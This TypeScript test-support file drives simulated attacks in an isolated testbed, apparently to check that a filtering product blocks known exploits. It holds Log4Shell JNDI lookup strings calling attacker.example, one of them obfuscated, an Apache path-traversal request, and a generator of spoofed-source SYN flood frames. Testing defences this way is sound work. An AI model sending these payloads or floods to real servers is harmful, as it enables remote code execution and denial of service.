import type { ChildProcess } from 'node:child_process';
import type { Testbed } from '../support/netns.ts';
import { buildTcp } from '../support/packets.ts';
import { programFile } from '../support/program-file.ts';
import { HTTP_PORT } from '../support/web-server.ts';
import type { AttackerSettings } from './attacker-process.ts';

const ATTACKER = programFile(new URL('./attacker-process.ts', import.meta.url));

/** Requests that the shipped patches know, each on a connection of its own. */
const ATTACKS = [
  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is what an attacker sends.
  { path: '/', headers: { 'X-Api-Version': '${jndi:ldap://attacker.example/a}' } },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is what an attacker sends.
  { path: '/', headers: { 'User-Agent': '${${lower:j}${::-n}d${env:NOPE:-i}:ldap://attacker.example/a}' } },
  { path: '/icons/.%2e/server-status', headers: {} },
];
export const ATTACKED_CVES = ['cve-2021-44228', 'cve-2021-41773'];

export interface AttackResult {
  readonly sent: number;
  /** Those that got an answer of the server. */
  readonly arrived: number;
}

const NO_ATTACKS: AttackResult = { sent: 0, arrived: 0 };

/**
 * An attack every few hundred milliseconds, until `stop`; from the address of those whose requests are harmless, and
 * whose connections later have the same ports.
 */
export class Attacker {
  readonly #child: ChildProcess;
  readonly #ended: Promise<AttackResult>;

  constructor(testbed: Testbed, version: 4 | 6) {
    const settings: AttackerSettings = { host: testbed.addresses.server[version], port: HTTP_PORT, attacks: ATTACKS };
    this.#child = testbed.start('client', process.execPath, [ATTACKER, JSON.stringify(settings)], {
      stdio: ['pipe', 'pipe', 'inherit'],
    });
    let output = '';
    this.#child.stdout?.on('data', (chunk: Buffer) => {
      output += chunk.toString();
    });
    this.#ended = new Promise((resolve) => {
      // One that was killed says nothing.
      this.#child.once('close', () => resolve(output === '' ? NO_ATTACKS : (JSON.parse(output) as AttackResult)));
    });
  }

  stop(): Promise<AttackResult> {
    this.#child.stdin?.end();
    return this.#ended;
  }
}

const FLOOD_FRAMES = 4000;
const FLOOD_PER_SECOND = 2000;

/** SYNs of hosts that are not there. */
export async function flood(testbed: Testbed, seconds: number): Promise<void> {
  const [clientMac, serverMac] = [testbed.hardwareAddress('client'), testbed.hardwareAddress('server')];
  const frames = Array.from({ length: FLOOD_FRAMES }, (_, at) => {
    const source = `10.77.0.${100 + (at % 100)}`;
    const destination = testbed.addresses.server[4];
    const frame = buildTcp({
      ethernet: true,
      source,
      destination,
      sourcePort: 1024 + at,
      destinationPort: HTTP_PORT,
      flags: 'S',
      sequence: at,
      acknowledgement: 0,
    });
    frame.set(serverMac, 0);
    frame.set(clientMac, clientMac.length);
    return frame;
  });
  await testbed.floodFrames(frames, { perSecond: FLOOD_PER_SECOND, seconds });
}
